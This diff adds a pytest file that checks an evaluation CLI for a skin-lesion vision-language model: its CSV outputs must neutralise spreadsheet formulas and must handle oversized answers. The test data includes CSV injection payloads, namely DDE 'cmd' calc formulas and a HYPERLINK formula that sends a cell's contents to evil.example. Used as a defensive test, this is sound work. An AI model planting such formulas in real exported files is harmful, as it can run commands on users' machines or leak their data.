@@ -1,0 +1,85 @@
+"""Hostile answers and files (issue 20, items 12, 13, 14, 20): formulas in our CSVs, answers longer
+than the csv module's field limit, answers the paper's ROUGE cannot score, spreadsheet zip bombs."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import pytest
+
+from mm_skin.cli import ExitCode
+from skinvl.cli import main
+from skinvl.evaluation.predictions import read_predictions
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)", "+1+1",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]
+HARMLESS = ["-1.5", "'tis a nevus", "plain answer"]
+
+
+def _jsonl(path: Path, predictions: list[str], answer: str = "A benign nevus.") -> Path:
+    lines = [json.dumps({"id": f"q{i}", "question": "What is it?", "answer": answer, "prediction": p})
+             for i, p in enumerate(predictions)]
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return path
+
+
+def _score(predictions: Path, out: Path, *extra: str) -> int:
+    return main(["eval", "score", "--predictions", str(predictions), "--out", str(out), "--no-bertscore", *extra])
+
+
+# ------------------------------------------------------------------------------ CSV injection (item 20)
+
+
+def test_formula_answers_are_neutralised_in_every_csv_and_read_back_exactly(tmp_path):
+    source = _jsonl(tmp_path / "answers.jsonl", FORMULAS + HARMLESS)
+    assert _score(source, tmp_path / "out", "--protocol", "standard") == ExitCode.OK
+    written = tmp_path / "out" / "predictions.csv"
+    with written.open(newline="", encoding="utf-8") as f:
+        cells = [row["prediction"] for row in csv.DictReader(f)]  # what a spreadsheet sees
+    assert all(cell.startswith("'") for cell in cells[: len(FORMULAS)]), cells
+    assert cells[len(FORMULAS):] == HARMLESS  # numbers and ordinary text untouched
+    # Our own reader gives the raw answers back, so a re-score of the CSV is the same score.
+    assert [s.prediction for s in read_predictions(written)] == FORMULAS + HARMLESS
+    assert _score(written, tmp_path / "again", "--protocol", "standard") == ExitCode.OK
+    first, again = (json.loads((tmp_path / d / "results.json").read_text())["metrics"] for d in ("out", "again"))
+    assert first == again
+
+
+def test_zeroshot_predictions_csv_is_neutralised(tmp_path):
+    from skinvl.evaluation.classification import write_classification_outputs
+
+    payload = {"metrics": {"accuracy": 0.0}, "per_class": {"Nevus": {"recall": 0.0, "support": 1}},
+               "confusion_matrix": {"counts": [[0, 1]], "rows": ["Nevus"], "columns": ["Nevus", "unparseable"]}}
+    rows = [{"id": "1", "image": "@evil.png", "label": "Nevus", "prediction": FORMULAS[0], "parsed": "unparseable"}]
+    write_classification_outputs(tmp_path, payload, rows, "zero-shot")
+    with (tmp_path / "predictions.csv").open(newline="", encoding="utf-8") as f:
+        [row] = list(csv.DictReader(f))
+    assert row["prediction"] == "'" + FORMULAS[0] and row["image"] == "'@evil.png"
+
+
+# ------------------------------------------------------------------------------ long fields (item 14)
+
+
+@pytest.fixture
+def default_field_limit():
+    """The csv module's default limit, as a fresh process has it (another test may have raised it)."""
+    before = csv.field_size_limit(131072)
+    yield
+    csv.field_size_limit(before)
+
+
+def test_answers_over_the_csv_field_limit_score_and_compare(tmp_path, default_field_limit):
+    long_answer = "y" * 140_000  # over the csv module's 131,072-character default
+    runs = []
+    for name in ("a", "b"):
+        source = _jsonl(tmp_path / f"{name}.jsonl", [long_answer, "A benign nevus.", "No."])
+        assert _score(source, tmp_path / name, "--protocol", "standard") == ExitCode.OK
+        runs.append(tmp_path / name)
+    csv.field_size_limit(131072)
+    rescored = read_predictions(tmp_path / "a" / "predictions.csv")  # `eval score` of our own CSV
+    assert rescored[0].prediction == long_answer
+    csv.field_size_limit(131072)
+    code = main(["eval", "compare", *map(str, runs), "--out", str(tmp_path / "c"), "--resamples", "50"])
+    assert code == ExitCode.OK
